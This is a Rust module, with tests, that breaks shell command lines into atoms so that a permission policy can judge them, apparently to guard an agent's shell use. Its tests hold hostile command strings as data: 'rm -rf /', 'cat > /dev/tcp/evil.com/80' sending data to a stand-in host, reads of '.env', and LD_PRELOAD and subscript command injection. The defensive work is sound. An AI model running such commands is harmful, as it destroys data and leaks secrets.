//! Turns a shell command line into the atoms a policy judges.
//!
//! Each simple command of the line (see `shell.rs`) becomes an exec atom for its argv, path
//! atoms for its file operands and redirections, and network atoms for the hosts it contacts
//! (see `operands.rs`). Wrappers that only run another command (`env`, `nice`, `xargs`,
//! `bash -c`, `eval`) are unwrapped, and `cd` is followed so that later relative paths are
//! judged against every directory the line may have moved to.
//!
//! Whatever cannot be judged with certainty becomes an uncertain atom, which denies the line.

use super::atom::{Access, ShellAtom, Word};
use super::operands;
use super::shell::{self, Redirect, RedirectOp, SimpleCommand};
use super::wrappers::{interpreter, is_shell};

/// How deep wrappers and nested scripts (`bash -c "eval ..."`) are followed.
const MAX_NESTING: usize = 8;

/// How many `cd` directories are tracked before the line is refused.
const MAX_CD_DIRS: usize = 64;

/// Words bash reads as keywords at the start of a command, which the parser does not analyse.
const KEYWORDS: &[&str] = &[
    "{", "}", "!", "[[", "]]", "if", "then", "else", "elif", "fi", "do", "done", "case", "esac",
    "while", "until", "for", "in", "function", "select", "coproc",
];

/// Builtins that run code given as text or change what later commands run.
const CODE_BUILTINS: &[&str] = &[
    "trap", "let", "fc", "enable", "bind", "complete", "compgen", "hash", "alias",
];

/// Builtins that declare or remove variables, which the analysis does not follow.
const DECLARATION_BUILTINS: &[&str] =
    &["export", "declare", "typeset", "local", "readonly", "unset"];

/// Builtins that assign to variables named by their operands; a subscript in such a name
/// (`a[$(cmd)]`) is evaluated as arithmetic, which runs commands.
const VARIABLE_NAME_BUILTINS: &[&str] = &["read", "mapfile", "readarray", "getopts", "wait"];

/// The settings of the shell analysis.
#[derive(Debug)]
pub(crate) struct ShellOptions {
    /// The environment variables a command line may set (`RUST_LOG=debug cargo test`).
    pub allowed_env: Vec<String>,
}

/// Returns the atoms of a command line, in source order.
///
/// A command line that does not parse, or that uses a construct the analysis does not follow,
/// yields an uncertain atom with the reason.
pub(crate) fn analyse(command_line: &str, options: &ShellOptions) -> Vec<ShellAtom> {
    let mut analysis = Analysis {
        options,
        sink: Sink::default(),
    };
    analysis.script(command_line, 0);
    analysis.sink.atoms
}

/// Collects atoms, and the directories a `cd` earlier on the line may have moved to.
#[derive(Default)]
pub(crate) struct Sink {
    /// The atoms so far, in source order.
    atoms: Vec<ShellAtom>,
    /// The `cd` targets seen so far, as written and joined to earlier targets.
    cd_dirs: Vec<String>,
}

impl Sink {
    /// Adds an exec atom.
    pub(crate) fn exec(&mut self, argv: &[Word], open_tail: bool) {
        self.atoms.push(ShellAtom::Exec {
            argv: argv.to_vec(),
            open_tail,
        });
    }

    /// Adds a path atom for a word, or an uncertain atom when the shell expands the word.
    pub(crate) fn path(&mut self, access: Access, word: &Word, recursive: bool) {
        match word {
            Word::Literal(path) => self.path_text(access, path, recursive),
            Word::Dynamic(source) => {
                self.uncertain(format!("`{source}` is expanded by the shell at run time"))
            }
        }
    }

    /// Adds a path atom.
    pub(crate) fn path_text(&mut self, access: Access, path: &str, recursive: bool) {
        self.atoms.push(ShellAtom::Path {
            access,
            path: path.to_string(),
            cd_dirs: self.cd_dirs.clone(),
            recursive,
        });
    }

    /// Adds a network atom.
    pub(crate) fn net(&mut self, target: &str, default_scheme: &'static str, port: Option<u16>) {
        self.atoms.push(ShellAtom::Net {
            target: target.to_string(),
            default_scheme,
            port,
        });
    }

    /// Adds an uncertain atom, which denies the line.
    pub(crate) fn uncertain(&mut self, reason: impl Into<String>) {
        self.atoms.push(ShellAtom::Uncertain {
            reason: reason.into(),
        });
    }

    /// Records a `cd`: the directory itself and, when relative, joined to every earlier one.
    fn enter_directory(&mut self, directory: &str) {
        let mut entered = vec![directory.to_string()];
        if !directory.starts_with('/') {
            for earlier in &self.cd_dirs {
                entered.push(format!("{}/{directory}", earlier.trim_end_matches('/')));
            }
        }
        for directory in entered {
            if !self.cd_dirs.contains(&directory) {
                self.cd_dirs.push(directory);
            }
        }
        if self.cd_dirs.len() > MAX_CD_DIRS {
            self.uncertain("too many `cd` on one line to follow");
        }
    }
}

/// One program run with its arguments, as the analysis sees it after unwrapping.
#[derive(Clone, Copy)]
pub(super) struct Invocation<'a> {
    /// The program and its arguments.
    pub(super) argv: &'a [Word],
    /// True when arguments unknown before run time follow `argv`.
    pub(super) open_tail: bool,
    /// The command that supplies those arguments (`xargs`, `find -exec`), if any.
    pub(super) operands_from: Option<&'static str>,
    /// True when a here-document or here-string feeds standard input.
    pub(super) stdin_is_script_data: bool,
    /// True when a pipe feeds standard input.
    pub(super) stdin_is_pipe: bool,
}

impl<'a> Invocation<'a> {
    /// The arguments after the program.
    pub(super) fn args(&self) -> &'a [Word] {
        self.argv.get(1..).unwrap_or_default()
    }

    /// The same invocation running another argv (the command a wrapper runs).
    pub(super) fn with_argv(self, argv: &[Word]) -> Invocation<'_> {
        Invocation {
            argv,
            open_tail: self.open_tail,
            operands_from: self.operands_from,
            stdin_is_script_data: self.stdin_is_script_data,
            stdin_is_pipe: self.stdin_is_pipe,
        }
    }

    /// The program as written, when it is known.
    pub(super) fn program(&self) -> &'a str {
        self.argv
            .first()
            .and_then(Word::literal)
            .unwrap_or_default()
    }

    /// True when the program is named with a path (`/usr/bin/env`).
    pub(super) fn is_qualified(&self) -> bool {
        self.program().contains('/')
    }
}

/// The analysis of one command line.
pub(super) struct Analysis<'options> {
    /// The settings of the analysis.
    pub(super) options: &'options ShellOptions,
    /// Where the atoms go.
    pub(super) sink: Sink,
}

impl Analysis<'_> {
    /// Analyses a script: the command line itself, or one nested in `bash -c` or `eval`.
    pub(super) fn script(&mut self, script: &str, depth: usize) {
        if depth > MAX_NESTING {
            self.sink.uncertain(nesting_reason());
            return;
        }
        match shell::parse(script) {
            Ok(commands) => {
                for command in &commands {
                    self.simple_command(command, depth);
                }
            }
            Err(reason) => self.sink.uncertain(reason),
        }
    }

    /// Analyses one simple command: assignments, program, then redirections.
    fn simple_command(&mut self, command: &SimpleCommand, depth: usize) {
        for (name, _value) in &command.assignments {
            self.assignment(name);
        }
        let invocation = Invocation {
            argv: &command.argv,
            open_tail: false,
            operands_from: None,
            stdin_is_script_data: command.stdin_is_script_data,
            stdin_is_pipe: command.stdin_is_pipe,
        };
        self.invocation(invocation, depth);
        for redirect in &command.redirects {
            self.redirect(redirect);
        }
    }

    /// Refuses setting an environment variable that is not allowed.
    pub(super) fn assignment(&mut self, name: &str) {
        if !self
            .options
            .allowed_env
            .iter()
            .any(|allowed| allowed == name)
        {
            self.sink
                .uncertain(format!("setting `{name}` can change what runs"));
        }
    }

    /// Judges a redirection target.
    fn redirect(&mut self, redirect: &Redirect) {
        let Some(path) = redirect.target.literal() else {
            self.sink.uncertain(format!(
                "redirection to `{}` is known only at run time",
                redirect.target.display()
            ));
            return;
        };
        if is_standard_stream(path) {
            return;
        }
        if let Some(rest) = path.strip_prefix("/dev/tcp/") {
            return self.device_connection(rest, "tcp");
        }
        if let Some(rest) = path.strip_prefix("/dev/udp/") {
            return self.device_connection(rest, "udp");
        }
        match redirect.op {
            RedirectOp::Read => self.sink.path_text(Access::Read, path, false),
            RedirectOp::Write | RedirectOp::Append => {
                self.sink.path_text(Access::Write, path, false)
            }
            RedirectOp::ReadWrite => {
                self.sink.path_text(Access::Read, path, false);
                self.sink.path_text(Access::Write, path, false);
            }
        }
    }

    /// Judges bash's `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT` connections.
    fn device_connection(&mut self, rest: &str, scheme: &'static str) {
        match rest.split_once('/') {
            Some((host, port)) if !host.is_empty() && port.parse::<u16>().is_ok() => {
                self.sink.net(&format!("{host}:{port}"), scheme, None)
            }
            _ => self.sink.uncertain(format!(
                "connection to `/dev/{scheme}/{rest}` is not analysed"
            )),
        }
    }

    /// Judges one program run, unwrapping wrappers.
    pub(super) fn invocation(&mut self, invocation: Invocation, depth: usize) {
        if depth > MAX_NESTING {
            self.sink.uncertain(nesting_reason());
            return;
        }
        let Some(program_word) = invocation.argv.first() else {
            return;
        };
        let Some(program) = program_word.literal() else {
            self.sink.uncertain(format!(
                "`{}` names the program only at run time",
                program_word.display()
            ));
            return;
        };
        let name = program.rsplit('/').next().unwrap_or(program);
        // Builtins run as such only when named without a path and not run by `xargs`.
        if !invocation.is_qualified()
            && invocation.operands_from.is_none()
            && self.builtin(name, invocation, depth)
        {
            return;
        }
        match name {
            "env" => self.env(invocation, depth),
            "nice" | "nohup" | "timeout" | "stdbuf" | "time" => {
                self.transparent(name, invocation, depth)
            }
            "sudo" | "doas" => self.sudo(name, invocation, depth),
            "busybox" => {
                self.sink.exec(invocation.argv, invocation.open_tail);
                self.wrapped(invocation, invocation.args(), depth);
            }
            "xargs" => self.xargs(invocation, depth),
            "find" => self.find(invocation, depth),
            _ if is_shell(name) => self.shell(name, invocation, depth),
            _ if interpreter(name).is_some() => self.interpreter(name, invocation),
            _ => self.program(name, invocation),
        }
    }

    /// Judges a program that is not a wrapper: its argv, then its operands.
    pub(super) fn program(&mut self, name: &str, invocation: Invocation) {
        self.sink.exec(invocation.argv, invocation.open_tail);
        if let Some(operands_from) = invocation.operands_from {
            if let Some(reason) =
                operands::run_time_operands_reason(name, invocation.args(), operands_from)
            {
                self.sink.uncertain(reason);
            }
        }
        operands::judge(name, invocation.args(), &mut self.sink);
    }

    /// Judges shell builtins; returns false when `name` is not one handled here.
    fn builtin(&mut self, name: &str, invocation: Invocation, depth: usize) -> bool {
        match name {
            "cd" | "pushd" => self.change_directory(name, invocation.args()),
            "popd" => self
                .sink
                .uncertain("`popd` returns to a directory known only at run time"),
            "eval" => self.eval(invocation.args(), depth),
            "source" | "." => {
                self.sink.exec(invocation.argv, false);
                if let Some(file) = invocation.args().first() {
                    self.script_file(name, file);
                }
            }
            "exec" | "command" | "builtin" => self.transparent(name, invocation, depth),
            _ if KEYWORDS.contains(&name) => self.sink.uncertain(format!(
                "`{name}` is a shell keyword here, which is not analysed"
            )),
            _ if CODE_BUILTINS.contains(&name) => self
                .sink
                .uncertain(format!("`{name}` can run code given as text")),
            _ if DECLARATION_BUILTINS.contains(&name) => self
                .sink
                .uncertain(format!("declaration command `{name}` is not analysed")),
            _ if VARIABLE_NAME_BUILTINS.contains(&name) || name == "printf" || name == "test" => {
                self.program(name, invocation);
                self.variable_name_operands(name, invocation.args());
            }
            _ => return false,
        }
        true
    }

    /// Refuses what could make a builtin evaluate a variable name as arithmetic, which runs
    /// the commands in a subscript (`read 'a[$(cmd)]'`, `printf -v`, `test -v`, `wait -p`).
    fn variable_name_operands(&mut self, name: &str, args: &[Word]) {
        if let Some(reason) = variable_name_refusal(name, args) {
            self.sink.uncertain(reason);
        }
    }

    /// Follows `cd DIR` and `pushd DIR`: later relative paths may be relative to DIR.
    fn change_directory(&mut self, name: &str, args: &[Word]) {
        let mut operands = args
            .iter()
            .skip_while(|word| matches!(word.literal(), Some(text) if is_cd_option(text)))
            .peekable();
        if operands.peek().and_then(|word| word.literal()) == Some("--") {
            operands.next();
        }
        match operands.next() {
            None if name == "cd" => self
                .sink
                .uncertain("`cd` without a directory goes to the home directory"),
            None => self
                .sink
                .uncertain("`pushd` without a directory swaps to a directory known at run time"),
            Some(Word::Literal(directory)) if directory == "-" => self.sink.uncertain(format!(
                "`{name} -` returns to a directory known only at run time"
            )),
            Some(Word::Literal(directory))
                if name == "pushd" && directory.starts_with(['+', '-']) =>
            {
                self.sink
                    .uncertain("`pushd` to a stack entry is known only at run time")
            }
            Some(Word::Literal(directory)) => {
                self.sink.path_text(Access::Read, directory, false);
                self.sink.enter_directory(directory);
            }
            Some(Word::Dynamic(source)) => self.sink.uncertain(format!(
                "`{name}` to `{source}`, which is known only at run time"
            )),
        }
    }

    /// Judges a script file that a shell, `source` or an interpreter runs: it is read, unless
    /// it names a file descriptor (`/dev/stdin`), which runs whatever feeds it.
    pub(super) fn script_file(&mut self, program: &str, file: &Word) {
        match file.literal() {
            Some(path) if names_descriptor(path) => self.sink.uncertain(format!(
                "`{program}` runs a script from the file descriptor `{path}`"
            )),
            _ => self.sink.path(Access::Read, file, false),
        }
    }

    /// Follows `eval`: literal words are joined and analysed as a script.
    fn eval(&mut self, args: &[Word], depth: usize) {
        let mut script_words = Vec::new();
        for word in args {
            match word {
                Word::Literal(text) => script_words.push(text.as_str()),
                Word::Dynamic(source) => {
                    self.sink.uncertain(format!(
                        "`eval` of `{source}`, a word known only at run time"
                    ));
                    return;
                }
            }
        }
        self.script(&script_words.join(" "), depth + 1);
    }
}

/// The reason for refusing commands nested too deeply.
pub(super) fn nesting_reason() -> String {
    format!("commands nested more than {MAX_NESTING} deep are not analysed")
}

/// The reason to refuse a builtin that takes variable names, if any.
///
/// `read`, `mapfile`, `readarray` and `getopts` take names as operands, and `printf -v`,
/// `test -v` and `wait -p` as option values. A name with a subscript is refused, and so is a
/// word known only at run time where an option may stand, since word splitting may turn it
/// into an option and a name. `mapfile -C` runs a callback given as text.
fn variable_name_refusal(name: &str, args: &[Word]) -> Option<String> {
    let is_option_with = |word: &Word, flag: char| matches!(word.literal(), Some(text) if text.starts_with('-') && text.contains(flag));
    if matches!(name, "mapfile" | "readarray") && args.iter().any(|word| is_option_with(word, 'C'))
    {
        return Some(format!("`{name} -C` runs a command given as text"));
    }
    let (name_options, option_positions) = match name {
        // Only options stand before the format: the words after it are data.
        "printf" => ("-v", args.get(..1).unwrap_or_default()),
        "test" => ("-v -R", args),
        "wait" => ("-p", args),
        _ => ("", args),
    };
    let dynamic = option_positions.iter().find(|word| match word {
        Word::Dynamic(source) => !matches!(source.as_str(), "$!" | "\"$!\"" | "$$" | "$?"),
        Word::Literal(_) => false,
    });
    if let Some(word) = dynamic {
        return Some(format!(
            "`{name}` with `{}`, a word known only at run time, is not analysed",
            word.display()
        ));
    }
    let mut names: Vec<Word> = Vec::new();
    for (index, word) in args.iter().enumerate() {
        let Some(text) = word.literal() else { continue };
        if name_options.is_empty() {
            names.push(word.clone());
        } else if operands::listed(name_options, text) {
            names.extend(args.get(index + 1).cloned());
        } else if let Some(attached) = name_options
            .split_ascii_whitespace()
            .find_map(|option| text.strip_prefix(option))
        {
            names.push(Word::Literal(attached.to_string()));
        }
    }
    names
        .iter()
        .find(|variable| variable.literal().is_none_or(|text| text.contains('[')))
        .map(|variable| {
            format!(
                "`{name}` with the variable name `{}` is not analysed",
                variable.display()
            )
        })
}

/// True for paths that name a file descriptor rather than a file (`/dev/stdin`, `/dev/fd/3`,
/// `/proc/self/fd/0`).
fn names_descriptor(path: &str) -> bool {
    matches!(path, "/dev/stdin" | "/dev/fd" | "/dev/fd/")
        || path.starts_with("/dev/fd/")
        || (path.starts_with("/proc/") && path.contains("/fd"))
}

/// True for redirection targets that are standard streams, not files.
fn is_standard_stream(path: &str) -> bool {
    matches!(
        path,
        "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/stdin"
    ) || path
        .strip_prefix("/dev/fd/")
        .is_some_and(|number| !number.is_empty() && number.chars().all(|c| c.is_ascii_digit()))
}

/// True for the options of `cd` and `pushd` (`-L`, `-P`, `-e`, `-@`, `-n`).
fn is_cd_option(text: &str) -> bool {
    text.len() > 1
        && text.starts_with('-')
        && text
            .chars()
            .skip(1)
            .all(|c| matches!(c, 'L' | 'P' | 'e' | '@' | 'n'))
}

#[cfg(test)]
pub(crate) mod tests {
    //! Tests of the shell analysis: one command line, its atoms in a compact notation
    //! (`exec cargo test`, `read .env`, `net evil.com (https)`, `uncertain: ...`).

    use super::super::shell::tests::format_word;
    use super::*;

    /// Formats one atom compactly.
    fn format_atom(atom: &ShellAtom) -> String {
        match atom {
            ShellAtom::Exec { argv, open_tail } => {
                let words: Vec<String> = argv.iter().map(format_word).collect();
                let tail = if *open_tail { " …" } else { "" };
                format!("exec {}{tail}", words.join(" "))
            }
            ShellAtom::Path {
                access,
                path,
                cd_dirs,
                recursive,
            } => {
                let recursive = if *recursive { " -r" } else { "" };
                let cd_dirs = if cd_dirs.is_empty() {
                    String::new()
                } else {
                    format!(" [cd {}]", cd_dirs.join(", "))
                };
                format!("{} {path}{recursive}{cd_dirs}", access.name())
            }
            ShellAtom::Net {
                target,
                default_scheme,
                port,
            } => match port {
                Some(port) => format!("net {target} ({default_scheme}) port {port}"),
                None => format!("net {target} ({default_scheme})"),
            },
            ShellAtom::Uncertain { reason } => format!("uncertain: {reason}"),
        }
    }

    /// The options of the tests: two variables may be set.
    fn options() -> ShellOptions {
        ShellOptions {
            allowed_env: vec!["RUST_LOG".to_string(), "CARGO_TERM_COLOR".to_string()],
        }
    }

    /// Analyses `input` and compares its atoms, joined by ` | `, with `expected`.
    #[track_caller]
    pub(crate) fn check(input: &str, expected: &str) {
        let atoms: Vec<String> = analyse(input, &options()).iter().map(format_atom).collect();
        assert_eq!(atoms.join(" | "), expected, "input: {input:?}");
    }

    #[test]
    fn chained_commands_are_all_judged() {
        check("cargo test", "exec cargo test");
        check("", "");
        check(
            "cargo test; rm -rf /",
            "exec cargo test | exec rm -rf / | delete / -r",
        );
        check(
            "cargo test && rm x",
            "exec cargo test | exec rm x | delete x",
        );
        check("a || b", "exec a | exec b");
        check("a | b", "exec a | exec b");
        check("a & b", "exec a | exec b");
        check("a\nb", "exec a | exec b");
        check("echo $(rm x)", "exec rm x | delete x | exec echo «$(rm x)»");
        check("echo `rm x`", "exec rm x | delete x | exec echo «`rm x`»");
        check(
            "echo $(cat .env)",
            "exec cat .env | read .env | exec echo «$(cat .env)»",
        );
        check(
            "diff <(cat .env) x",
            "exec cat .env | read .env | exec diff «<(cat .env)» x | uncertain: `<(cat .env)` is expanded by the shell at run time | read x",
        );
        check("(rm x)", "exec rm x | delete x");
        check("{ rm x; }", "exec rm x | delete x");
        check(
            "cat <<EOF\n$(rm x)\nEOF\n",
            "exec rm x | delete x | exec cat",
        );
    }

    #[test]
    fn program_names() {
        check("\\rm x", "exec rm x | delete x");
        check("/bin/rm x", "exec /bin/rm x | delete x");
        check("\"r\"m x", "exec rm x | delete x");
        check("$X x", "uncertain: `$X` names the program only at run time");
        check("{ x", "uncertain: syntax error near `{ x`");
        check(
            "time { a; }",
            "uncertain: `{` is a shell keyword here, which is not analysed | uncertain: `}` is a shell keyword here, which is not analysed",
        );
        check(
            "trap 'rm x' EXIT",
            "uncertain: `trap` can run code given as text",
        );
        check("let x=1", "uncertain: `let` can run code given as text");
        check(
            "coproc rm x",
            "uncertain: `coproc` is a shell keyword here, which is not analysed",
        );
        check(
            "command export X=1",
            "uncertain: declaration command `export` is not analysed",
        );
        check(
            "read 'a[$(rm x)]'",
            "exec read a[$(rm x)] | uncertain: `read` with the variable name `a[$(rm x)]` is not analysed",
        );
        check(
            "printf -v \"$N\" x",
            "exec printf -v «\"$N\"» x | uncertain: `printf` with the variable name `\"$N\"` is not analysed",
        );
        check("printf '[%s]' x", "exec printf [%s] x");
        check("printf '%s' \"$x\"", "exec printf %s «\"$x\"»");
        check(
            "printf $F x",
            "exec printf «$F» x | uncertain: `printf` with `$F`, a word known only at run time, is not analysed",
        );
        check(
            "printf -v'a[1]' x",
            "exec printf -va[1] x | uncertain: `printf` with the variable name `a[1]` is not analysed",
        );
        check("read -r line", "exec read -r line");
        check("sleep 1 & wait $!", "exec sleep 1 | exec wait «$!»");
        check(
            "wait -p 'a[1]'",
            "exec wait -p a[1] | uncertain: `wait` with the variable name `a[1]` is not analysed",
        );
        check(
            "test \"$a\" \"$b\"",
            "exec test «\"$a\"» «\"$b\"» | uncertain: `test` with `\"$a\"`, a word known only at run time, is not analysed",
        );
        check(
            "mapfile -t -C 'rm x' lines",
            "exec mapfile -t -C rm x lines | uncertain: `mapfile -C` runs a command given as text",
        );
    }

    #[test]
    fn assignments() {
        check("X=1", "uncertain: setting `X` can change what runs");
        check("RUST_LOG=debug", "");
        check(
            "RUST_LOG=$(cat f) cargo test",
            "exec cat f | read f | exec cargo test",
        );
        check(
            "LD_PRELOAD=x cargo test",
            "uncertain: setting `LD_PRELOAD` can change what runs | exec cargo test",
        );
        check(
            "PATH=/tmp ls",
            "uncertain: setting `PATH` can change what runs | exec ls",
        );
        check(
            "env X=1 cat .env",
            "uncertain: setting `X` can change what runs | exec cat .env | read .env",
        );
        check(
            "env LD_PRELOAD=x cargo test",
            "uncertain: setting `LD_PRELOAD` can change what runs | exec cargo test",
        );
        check("env RUST_LOG=1 cargo test", "exec cargo test");
        check("env -i -u HOME -- RUST_LOG=1 cargo test", "exec cargo test");
        check("env", "exec env");
        check(
            "env -S 'rm x'",
            "uncertain: `env -S` splits a string into a command, which is not analysed",
        );
        check(
            "env -C /tmp ls",
            "uncertain: `env -C` runs the command in another directory",
        );
        check(
            "/usr/bin/env RUST_LOG=1 ls",
            "exec /usr/bin/env RUST_LOG=1 ls | exec ls",
        );
        check(
            "sudo LD_PRELOAD=x ls",
            "exec sudo LD_PRELOAD=x ls | uncertain: setting `LD_PRELOAD` can change what runs | exec ls",
        );
    }

    #[test]
    fn eval_and_source() {
        check("eval \"cat .env\"", "exec cat .env | read .env");
        check(
            "eval cat .env '&&' rm x",
            "exec cat .env | read .env | exec rm x | delete x",
        );
        check(
            "eval $X",
            "uncertain: `eval` of `$X`, a word known only at run time",
        );
        check("eval", "");
        check("source env.sh", "exec source env.sh | read env.sh");
        check(". ./env.sh", "exec . ./env.sh | read ./env.sh");
        check(
            ". /dev/stdin <<< 'rm x'",
            "exec . /dev/stdin | uncertain: `.` runs a script from the file descriptor `/dev/stdin`",
        );
        check(
            "source /proc/self/fd/0",
            "exec source /proc/self/fd/0 | uncertain: `source` runs a script from the file descriptor `/proc/self/fd/0`",
        );
    }

    #[test]
    fn change_directory() {
        check(
            "cd .. && cat .env",
            "read .. | exec cat .env | read .env [cd ..]",
        );
        check(
            "cd a; cd b; rm x",
            "read a | read b [cd a] | exec rm x | delete x [cd a, b, a/b]",
        );
        check(
            "cd /etc && cat passwd",
            "read /etc | exec cat passwd | read passwd [cd /etc]",
        );
        // The redirection goes with the first command of the group, after its `cd`: judging `log`
        // against `sub` as well only ever denies more.
        check(
            "(cd sub && make) > log",
            "read sub | write log [cd sub] | exec make",
        );
        check("cd -P -- dir", "read dir");
        check(
            "cd",
            "uncertain: `cd` without a directory goes to the home directory",
        );
        check(
            "cd -",
            "uncertain: `cd -` returns to a directory known only at run time",
        );
        check(
            "cd ~",
            "uncertain: `cd` to `~`, which is known only at run time",
        );
        check(
            "cd $D",
            "uncertain: `cd` to `$D`, which is known only at run time",
        );
        check("pushd dir", "read dir");
        check(
            "pushd",
            "uncertain: `pushd` without a directory swaps to a directory known at run time",
        );
        check(
            "pushd +1",
            "uncertain: `pushd` to a stack entry is known only at run time",
        );
        check(
            "popd",
            "uncertain: `popd` returns to a directory known only at run time",
        );
        check("/usr/bin/cd x", "exec /usr/bin/cd x");
    }

    #[test]
    fn redirections() {
        check("cat < .env", "exec cat | read .env");
        check("echo hi > out.txt", "exec echo hi | write out.txt");
        check("echo hi >> log 2>&1", "exec echo hi | write log");
        check(
            "cmd &> all 2>/dev/null >/dev/stdout </dev/fd/3",
            "exec cmd | write all",
        );
        check(
            "cat > /dev/tcp/evil.com/80",
            "exec cat | net evil.com:80 (tcp)",
        );
        check(
            "cat < /dev/udp/1.2.3.4/53",
            "exec cat | net 1.2.3.4:53 (udp)",
        );
        check(
            "cat > /dev/tcp/evil.com",
            "exec cat | uncertain: connection to `/dev/tcp/evil.com` is not analysed",
        );
        check(
            "echo > $F",
            "exec echo | uncertain: redirection to `$F` is known only at run time",
        );
        check("cat <<< x", "exec cat");
        check("> out", "write out");
        check("{ a; b; } > out", "exec a | write out | exec b");
    }

    #[test]
    fn parse_errors_are_uncertain() {
        check("cat 'unbalanced", "uncertain: unbalanced quotes");
        check(
            "for f in *; do rm $f; done",
            "uncertain: control flow (`for`) is not analysed",
        );
        check("cat \0 .env", "uncertain: syntax error near ``");
        let long = "x".repeat(200_000);
        check(&long, "uncertain: command line longer than 100000 bytes");
    }

    proptest::proptest! {
        /// The analysis never panics, whatever the input.
        #[test]
        fn never_panics_on_any_string(input in ".*") {
            let _ = analyse(&input, &options());
        }

        /// The analysis never panics on inputs made of shell metacharacters and command words.
        #[test]
        fn never_panics_on_shell_syntax(parts in proptest::collection::vec(proptest::sample::select(vec![
            "a", "rm", "cat", "bash", "-c", "eval", "xargs", "find", "-exec", "{}", ";", "\\;",
            "+", "cd", "..", "|", "||", "&", "&&", "(", ")", "{", "}", "$(", "`", "<(", ">(", "<",
            ">", ">>", "<<", "<<<", "EOF", "\n", "'", "\"", "\\", "$", "${", "$((", "))", "*",
            "?", "[", "]", "~", "=", "X=1", "#", " ", "\t", "\0", "é", "2>&1", "git", "push",
            "curl", "-o", "ssh", "-p", "env", "sudo", "time", "!", "[[", "]]", "..", "1", "\r",
            "\u{b}", "\u{ff}", "\u{100}", "\u{fcb0b}", "\u{10ffff}",
        ]), 0..40)) {
            let input = parts.concat();
            let _ = analyse(&input, &options());
        }
    }
}
